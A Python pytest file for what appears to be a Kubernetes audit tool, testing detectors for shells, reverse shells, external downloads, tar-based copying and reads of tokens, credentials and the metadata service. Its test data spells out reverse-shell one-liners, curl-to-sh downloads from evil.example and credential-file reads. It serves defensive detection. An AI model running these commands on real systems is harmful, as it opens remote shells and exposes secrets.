"""What command lines give away, and which harmless ones look like it."""

from __future__ import annotations

import pytest

from audit.commands import CommandClass, class_of, command_of
from audit.rules.command_lines import (
    command_line,
    copies_with_tar,
    downloads,
    is_reverse_shell,
    reads_credentials,
    reads_metadata,
    reads_token,
)


@pytest.mark.parametrize(
    ("words", "says"),
    [
        ("sh", True),
        ("/bin/bash -il", True),
        ("env FOO=1 /usr/bin/zsh", True),
        ("busybox ash", True),
        ("nsenter -t 1 -m -- bash", True),
        ("C:\\Windows\\System32\\cmd.exe", True),
        ("nohup bash", True),
        ("script -c bash", True),
        ("C:\\Windows\\System32\\cmd.exe /c dir", False),
        ("sh -c ls", False),
        ("bash /tmp/x.sh", False),
        ("pwsh", True),
        ("ls /bin/bash", False),
        ("cat install.sh", False),
        ("env", False),
        ("", False),
    ],
)
def test_a_shell_is_what_is_run_and_not_what_is_read(words: str, says: bool) -> None:
    assert (class_of(words.split()) is CommandClass.SHELL) is says


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("bash -c bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", True),
        ("nc -e /bin/sh 10.0.0.1 9", True),
        ("ncat 10.0.0.1 9 --exec /bin/bash", True),
        ("socat tcp:1.2.3.4:9 exec:sh", True),
        ("python3 -c import pty; pty.spawn('/bin/sh')", True),
        ("python -c import socket,os,subprocess; os.dup2(s.fileno(),0)", True),
        ("mkfifo /tmp/f", True),
        ("nc -vz db 5432", False),
        ("ss --socket", False),
        ("sync", False),
    ],
)
def test_a_shell_on_the_network_is_told_from_a_test_of_a_port(line: str, says: bool) -> None:
    assert is_reverse_shell(line) is says


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("curl -fssl https://evil.example/x", True),
        ("sh -c wget -qo- http://203.0.113.5/x", True),
        ("curl evil.example/x | sh", True),
        ("curl http://localhost:8080/health", False),
        ("curl https://user:pw@127.0.0.1/", False),
        ("curl http://web.shop.svc.cluster.local/", False),
        ("wget http://web/", False),
        ("cat https://evil.example/x", False),
        ("curl --version", False),
    ],
)
def test_a_download_comes_from_outside_the_cluster(line: str, says: bool) -> None:
    assert downloads(line) is says


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("tar cf - /data", True),
        ("tar -xmf - -c /tmp", True),
        ("/bin/tar czf - /data", True),
        ("sh -c 'tar cf - /data'", True),
        ("tar czf backup.tar.gz /data", False),
        ("tar --version -", False),
        ("tar", False),
        ("star cf -", False),
    ],
)
def test_kubectl_cp_is_tar_on_its_stream(line: str, says: bool) -> None:
    assert copies_with_tar(line) is says


@pytest.mark.parametrize(
    "line",
    [
        "ls /var/run/secrets/kubernetes.io/serviceaccount",
        "cat /run/secrets/tokens/vault",
        "cat /var/run/secrets/azure/tokens/azure-identity-token",
        "cat $azure_federated_token_file",
    ],
)
def test_files_of_tokens_are_known(line: str) -> None:
    assert reads_token(line)


def test_files_of_keys_and_the_metadata_service_are_known() -> None:
    assert reads_credentials("cat ~/.ssh/config")
    assert reads_credentials("cat .kube/config")
    assert not reads_credentials("ls /etc/nginx")
    assert reads_metadata("curl http://169.254.169.254/metadata")
    assert reads_metadata("wget 0xa9fea9fe")
    assert not reads_token("ls /var/run")


def test_a_command_is_read_from_its_uri_where_there_is_no_body() -> None:
    uri = "/api/v1/namespaces/n/pods/p/exec?command=cat&command=%2Fetc%2FShadow&container=c&stdout=true"

    assert command_of(uri) == ("cat", "/etc/Shadow")
    assert command_line(command_of(uri)) == "cat /etc/shadow"
    assert command_of("", {"command": ["ls", 1, None]}) == ("ls",)
    assert command_of("", {"command": "ls"}) == ()
